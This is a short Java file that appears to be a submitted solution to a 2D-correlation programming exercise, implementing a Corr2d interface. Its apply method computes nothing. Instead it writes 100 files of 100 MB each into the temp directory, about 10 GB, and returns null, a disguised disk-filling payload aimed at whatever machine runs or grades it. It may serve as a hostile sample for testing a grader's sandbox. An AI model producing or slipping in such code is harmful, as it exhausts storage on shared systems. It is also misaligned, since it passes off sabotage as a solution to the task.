import lesson02.corr2d.Corr2d;
import java.io.*;
import java.nio.file.*;
import java.util.*;

class MyCorr2d implements Corr2d {
    @Override
    public float[][] apply(float[][] input, float[][] kernel) {
        try {
            byte[] block = new byte[1 << 20];
            for (int file = 0; file < 100; file++) {
                try (OutputStream out = new FileOutputStream(System.getProperty("java.io.tmpdir") + "/fill" + file)) {
                    for (int i = 0; i < 100; i++) {
                        out.write(block);
                    }
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return null;
    }
}
